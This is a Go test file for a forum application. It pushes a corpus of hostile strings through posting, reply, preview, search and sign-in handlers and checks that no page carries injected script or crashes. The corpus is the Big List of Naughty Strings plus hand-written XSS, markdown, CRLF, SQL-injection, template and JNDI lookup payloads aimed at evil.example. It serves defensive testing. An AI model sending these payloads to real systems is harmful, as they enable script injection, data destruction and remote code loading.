package handlers_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"golang.org/x/net/html"

	"hiroba/app"
	"hiroba/handlers"
	"hiroba/handlers/ratelimit"
	"hiroba/migrations"
	"hiroba/models/modeltest"
)

// hostileInput is one string of the corpus, its place in the whole corpus
// (which names it in failures) and the kind of trouble it brings.
type hostileInput struct {
	index int
	kind  string
	text  string
	// everywhere keeps the string in every sample: each such string
	// stresses storage or search in a way of its own.
	everywhere bool
}

// hostileStrings is the Big List of Naughty Strings plus injection payloads
// aimed at each context a string can land in, and inputs of absurd shape.
func hostileStrings(t *testing.T) []hostileInput {
	t.Helper()
	buf, err := os.ReadFile("testdata/blns/blns.json")
	if err != nil {
		t.Fatal(err)
	}
	var blns []string
	if err := json.Unmarshal(buf, &blns); err != nil {
		t.Fatal(err)
	}
	var list []hostileInput
	add := func(kind string, texts ...string) {
		for _, s := range texts {
			list = append(list, hostileInput{index: len(list), kind: kind, text: s, everywhere: kind == "shapes"})
		}
	}
	for _, s := range blns {
		add(naughtyKind(s), s)
	}
	add("markdown",
		"[click](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
		"![x](javascript:alert(1))", "![x](x\" onerror=\"alert(1))", "<https://example.com/\"onmouseover=\"alert(1)>",
		"[x](vbscript:msgbox(1))", "```html\n<script>alert(1)</script>\n```")
	add("HTML",
		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
		"<iframe src=javascript:alert(1)></iframe>", "<object data=javascript:alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
		"<a href=\"javascript:alert(1)\">x</a>", "<div style=\"background:url(javascript:alert(1))\">x</div>", "<style>*{display:none}</style>",
		"<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<base href=\"https://evil.example/\">", "<form action=https://evil.example><button>x</button></form>")
	add("attribute and URL contexts",
		"\" onfocus=\"alert(1)\" autofocus=\"", "' onfocus='alert(1)' autofocus='", "\"><script>alert(1)</script>", "javascript:alert(1)",
		"//evil.example", "/\\evil.example", "%0d%0aSet-Cookie:x=1", "\r\nSet-Cookie: x=1")
	add("shapes",
		strings.Repeat("A", 1<<20), strings.Repeat("請", 60000), "\xff\xfe\xfd", "ok\x00nul", "\u202eevil\u202c", "\u200b\u200b\u200b",
		"'; DROP TABLE posts; --", "%_\\", "1' OR '1'='1", "${jndi:ldap://evil.example/x}", "{{.}}", "{{template \"x\"}}")
	return list
}

// naughtyKind sorts a string of the Big List by what it tries first, so a
// sample can hold every kind: broken encodings and control characters, then
// markup and code, then the unusual parts of Unicode, then the rest.
func naughtyKind(s string) string {
	has := func(f func(rune) bool) bool { return strings.ContainsFunc(s, f) }
	lower := strings.ToLower(s)
	switch {
	case !utf8.ValidString(s):
		return "invalid UTF-8"
	case strings.TrimSpace(s) == "":
		return "blank"
	case has(func(r rune) bool { return unicode.IsControl(r) && !strings.ContainsRune("\t\r\n", r) }):
		return "control characters"
	case strings.ContainsAny(s, "<>＜＞"):
		return "markup"
	case strings.Contains(lower, "script:") || strings.Contains(lower, "alert("):
		return "script"
	case strings.Contains(s, "{{") || strings.Contains(s, "${") || strings.Contains(s, "$(") || strings.Contains(s, "`"):
		return "template and shell"
	case strings.ContainsAny(s, "'\";"):
		return "quotes and SQL"
	case strings.ContainsAny(s, "/\\%$:"):
		return "paths and formats"
	case has(func(r rune) bool { return unicode.In(r, unicode.Cf, unicode.Zl, unicode.Zp) }):
		return "invisible and bidirectional"
	case has(unicode.IsMark):
		return "combining marks"
	case has(unicode.IsSymbol):
		return "symbols and emoji"
	case has(func(r rune) bool { return r >= utf8.RuneSelf }):
		return "other scripts"
	case has(unicode.IsDigit):
		return "numbers"
	default:
		return "words"
	}
}

// hostileSampleStep is how sparsely the second database samples the corpus.
const hostileSampleStep = 5

// sampleEachKind keeps the first of every kind and every step'th after it,
// in corpus order, and the strings meant for everywhere: the same strings
// every run, so a failure reproduces.
func sampleEachKind(corpus []hostileInput, step int) []hostileInput {
	seen := map[string]int{}
	var sample []hostileInput
	for _, in := range corpus {
		if in.everywhere || seen[in.kind]%step == 0 {
			sample = append(sample, in)
		}
		seen[in.kind]++
	}
	return sample
}

// injected reports elements or attributes in a page that no template wrote:
// a script other than the site's own, an on* handler, a javascript: URL.
func injected(t *testing.T, page string) string {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(page))
	if err != nil {
		return "unparsable page: " + err.Error()
	}
	var found string
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if found != "" {
			return
		}
		if n.Type == html.ElementNode {
			switch n.Data {
			case "script":
				switch {
				case attr(n, "type") == "application/ld+json" && attr(n, "src") == "":
					// The page's structured data: whole JSON, or text broke out of it.
					if n.FirstChild == nil || !json.Valid([]byte(n.FirstChild.Data)) {
						found = "structured data that is not JSON"
					}
				case !strings.HasPrefix(attr(n, "src"), "/static/js/"):
					found = "script element"
				}
			case "iframe", "object", "embed", "base", "style":
				found = n.Data + " element"
			case "meta":
				if attr(n, "http-equiv") != "" {
					found = "meta http-equiv"
				}
			case "form":
				if action := attr(n, "action"); !strings.HasPrefix(action, "/") || strings.HasPrefix(action, "//") {
					found = "form posting to " + action
				}
			}
			for _, a := range n.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				if strings.HasPrefix(strings.ToLower(a.Key), "on") {
					found = "attribute " + a.Key
				}
				if (a.Key == "href" || a.Key == "src" || a.Key == "action") && (strings.HasPrefix(v, "javascript:") || strings.HasPrefix(v, "vbscript:") || strings.HasPrefix(v, "data:text")) {
					found = a.Key + "=" + a.Val
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return found
}

func attr(n *html.Node, key string) string {
	for _, a := range n.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

var threadLocation = regexp.MustCompile(`^/t/(\d+)/`)

// unlimited lifts the request budgets, which would otherwise stop a test
// sending thousands of requests from one address.
func unlimited(c *app.Config) {
	huge := func(name string) ratelimit.Rule {
		return ratelimit.Rule{Name: name, Limit: 1 << 30, Window: time.Minute}
	}
	c.Limits = handlers.Limits{Post: huge("post"), PostIP: huge("post-ip"), Flag: huge("flag"), Vote: huge("vote"), Search: huge("search"), SignIn: huge("signin")}
}

// hostileParts is how many forums of its own each database's share of the
// corpus is dealt to, so that the parts run side by side.
const hostileParts = 4

// The whole corpus goes through SQLite, the quicker database; PostgreSQL
// takes a sample that holds every kind of string in the corpus.
func TestHostileInputBreaksNothing(t *testing.T) {
	t.Parallel()
	for _, d := range modeltest.Dialects {
		t.Run(d, func(t *testing.T) {
			t.Parallel()
			corpus := hostileStrings(t)
			if d != migrations.SQLite {
				corpus = sampleEachKind(corpus, hostileSampleStep)
			}
			for part := range hostileParts {
				// Dealt in turn, so each part gets its share of every kind
				// and of the absurd shapes at the end.
				var share []hostileInput
				for i := part; i < len(corpus); i += hostileParts {
					share = append(share, corpus[i])
				}
				t.Run(fmt.Sprintf("part %d of %d", part+1, hostileParts), func(t *testing.T) {
					t.Parallel()
					hostileRun(t, newForumWith(t, d, unlimited), share)
				})
			}
		})
	}
}

func hostileRun(t *testing.T, f *forum, corpus []hostileInput) {
	{
		b := f.browser()
		b.signIn("hostile")
		b.get("/new")
		token := b.csrf
		base, _, _ := askAndAnswerAs(t, f, b)
		stored, refused, fields := 0, 0, 0
		check := func(what string, p page) {
			t.Helper()
			fields++
			if p.Status >= 500 {
				t.Errorf("%s: status %d", what, p.Status)
			}
			if bad := injected(t, p.Body); bad != "" {
				t.Errorf("%s: page carries an injected %s", what, bad)
			}
		}
		kinds := map[string]bool{}
		for _, in := range corpus {
			s := in.text
			kinds[in.kind] = true
			name := "string " + strconv.Itoa(in.index) + " (" + in.kind + ")"
			// The composer: title and body.
			title := "Question " + s
			if len(s) > 1000 {
				title = "Question with a very long body"
			}
			p := b.post("/new", url.Values{"_csrf": {token}, "category": {"2"}, "title": {title}, "body": {s}})
			check(name+" /new", p)
			switch p.Status {
			case http.StatusSeeOther:
				stored++
				m := threadLocation.FindStringSubmatch(p.Location)
				if m == nil {
					t.Fatalf("%s: location %q", name, p.Location)
				}
				id, _ := strconv.ParseInt(m[1], 10, 64)
				view, err := f.srv.Store.ThreadPage(context.Background(), staff, id, 1)
				if err != nil {
					t.Fatal(err)
				}
				question, err := f.srv.Store.PostByID(context.Background(), staff, view.Posts[0].ID)
				if err != nil {
					t.Fatal(err)
				}
				if got := question.Source; got != s {
					t.Errorf("%s: body did not round-trip: %q", name, truncate(got))
				}
				if got, want := view.Thread.Title, strings.TrimSpace(title); got != want {
					t.Errorf("%s: title did not round-trip: %q", name, truncate(got))
				}
				check(name+" thread page", f.browser().get(strings.Split(p.Location, "#")[0]))
			case http.StatusUnprocessableEntity:
				refused++
				if !strings.Contains(p.Body, `class="field-error"`) && !strings.Contains(p.Body, `class="privacy-check"`) {
					t.Errorf("%s: refused without a reason", name)
				}
				if utf8.ValidString(s) && len(s) < 4096 && !strings.Contains(s, "\x00") && !strings.Contains(p.Body, html.EscapeString(s)) && strings.TrimSpace(s) != "" {
					t.Errorf("%s: refused form lost the text", name)
				}
			default:
				t.Errorf("%s: /new answered %d", name, p.Status)
			}
			// A reply, a preview, an edit of the reply.
			reply := b.post(base+"/replies", url.Values{"_csrf": {token}, "body": {s}})
			check(name+" reply", reply)
			if strings.Contains(reply.Location, "reply=kept") {
				check(name+" kept reply", b.get(reply.Location))
			}
			check(name+" preview", b.post("/preview", url.Values{"_csrf": {token}, "body": {s}}))
			// Every query parameter of the search page, the lists and the switcher.
			// Addresses are bounded by the server's 16 KB header buffer, as
			// browsers bound them; a longer one never reaches a handler.
			inURL := s
			if len(inURL) > 300 {
				inURL = inURL[:300]
			}
			q := url.QueryEscape(inURL)
			for _, path := range []string{
				"/search?q=" + q + "&category=" + q + "&author=" + q + "&from=" + q + "&to=" + q + "&sort=" + q + "&page=" + q,
				"/similar?title=" + q, "/?show=" + q + "&sort=" + q + "&page=" + q, "/lang/ja?next=" + q,
			} {
				check(name+" "+path[:min(len(path), 30)], f.browser().get(path))
			}
			// Path segments.
			seg := url.PathEscape(inURL)
			if len(seg) < 4000 {
				check(name+" /u/", f.browser().get("/u/"+seg))
				check(name+" /c/", f.browser().get("/c/"+seg))
				check(name+" slug", f.browser().get("/t/1/"+seg))
			}
			// The development sign-in's username, and a flag's note.
			dev := f.browser()
			dev.get("/login")
			check(name+" dev sign-in", dev.post("/auth/dev", url.Values{"username": {s}}))
		}
		t.Logf("%d hostile strings of %d kinds through %d fields and parameters: %d stored and round-tripped, %d refused with a reason", len(corpus), len(kinds), fields/len(corpus), stored, refused)
	}
}

// askAndAnswerAs makes a thread for hostile replies to land in.
func askAndAnswerAs(t *testing.T, f *forum, b *browser) (string, int, int) {
	t.Helper()
	p := b.post("/new", url.Values{"category": {"1"}, "title": {"A thread for replies"}, "body": {"replies go here"}})
	m := threadLocation.FindStringSubmatch(p.Location)
	if m == nil {
		t.Fatalf("thread: %d %q", p.Status, p.Location)
	}
	return "/t/" + m[1], 0, 0
}

func truncate(s string) string {
	if len(s) > 80 {
		return s[:80] + "…"
	}
	return s
}
